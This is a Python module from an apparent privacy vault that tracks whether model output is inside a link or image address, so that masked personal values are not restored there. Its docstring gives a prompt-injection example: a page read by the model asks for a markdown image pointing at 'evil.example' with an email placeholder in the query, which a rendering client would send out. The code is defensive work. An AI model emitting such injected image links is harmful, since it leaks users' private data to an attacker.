"""Where nothing is restored: inside the address of an image or of a link, except `mailto:` and `tel:`.

A page that the model has read may ask for `![x](https://evil.example/?q=<EMAIL_1>)`; a client that renders it would
send the value away by itself. So the rules (`link`, `tag`) err on the side of not restoring.

`inside_address` is a function of the text before a token alone; `AddressTracker` is the same function, computed while
the text grows: it reads every character once, so that a text of many tokens is not read again for each of them.
"""

import re
from typing import Final

from keepmum_edge.vault.link import DefinitionTracker, DestinationTracker, UrlTracker
from keepmum_edge.vault.tag import CssTracker, TagTracker

_PIECE: Final = re.compile(r"""[ \t\n\r\f\v\]\[<>()"'`=/\\.:;]|[^ \t\n\r\f\v\]\[<>()"'`=/\\.:;]+""")
"""Single marks and blanks, and stretches of what has no meaning here, which may be cut anywhere."""
_TAIL: Final = 40
"""Characters before a piece that the rules look at."""
_JSON_PIECE: Final = re.compile(r'"|\\(?:u[0-9a-fA-F]{4}|[^u])|[^"\\]+')
_ESCAPES: Final = {"n": "\n", "t": "\t", "r": "\r", "f": "\f", "b": "\b"}
_JSON_HELD: Final = re.compile(r"\\(?:u[0-9a-fA-F]{0,3})?\Z")


def inside_address(before: str, *, in_json: bool = False) -> bool:
    """Say whether a token that follows `before` stands inside an address.

    Args:
        before: The text as it is shown so far.
        in_json: The text is JSON; each of its strings is a text of its own.
    """
    tracker = AddressTracker(in_json=in_json)
    tracker.feed(before)
    return tracker.inside


class AddressTracker:
    """`inside_address` of a text that grows; the same at every cut."""

    def __init__(self, *, in_json: bool = False) -> None:
        self._in_json = in_json
        self._held = ""  # the beginning of a JSON escape
        self._begin()

    @property
    def inside(self) -> bool:
        """Whether a token that comes next stands inside an address."""
        return (
            self._urls.inside
            or self._destinations.inside
            or self._definitions.inside
            or self._tags.inside
            or self._css.inside
        )

    def feed(self, text: str) -> None:
        """Take the next part of the text as it is shown."""
        if not self._in_json:
            self._read(text)
            return
        text = self._held + text
        held = _JSON_HELD.search(text) if _is_cut(text) else None
        self._held = "" if held is None else held[0]
        for found in _JSON_PIECE.finditer(text, 0, len(text) - len(self._held)):
            piece = found[0]
            if piece == '"':
                self._begin()
            else:
                self._read(_unescaped(piece) if piece[0] == "\\" else piece)

    def _begin(self) -> None:
        self._tail = ""
        self._urls = UrlTracker()
        self._destinations = DestinationTracker()
        self._definitions = DefinitionTracker()
        self._tags = TagTracker()
        self._css = CssTracker()

    def _read(self, text: str) -> None:
        urls, destinations, definitions = self._urls, self._destinations, self._definitions
        tags, css, tail = self._tags, self._css, self._tail
        for piece in _PIECE.findall(text):
            destinations.feed(piece)
            urls.feed(piece, tail, destinations)
            definitions.feed(piece)
            tags.feed(piece)
            css.feed(piece, tail)
            tail = (tail + piece)[-_TAIL:]
        self._tail = tail


def _unescaped(escape: str) -> str:
    """Decode one escape; a model may write one that JSON does not know."""
    return chr(int(escape[2:], 16)) if len(escape) > 2 else _ESCAPES.get(escape[1], escape[1])


def _is_cut(text: str) -> bool:
    r"""Say whether the text ends inside an escape: an odd run of backslashes begins it."""
    slash = text.rfind("\\", max(0, len(text) - 5))
    if slash < 0:
        return False
    run = slash + 1 - len(text[: slash + 1].rstrip("\\"))
    return run % 2 == 1
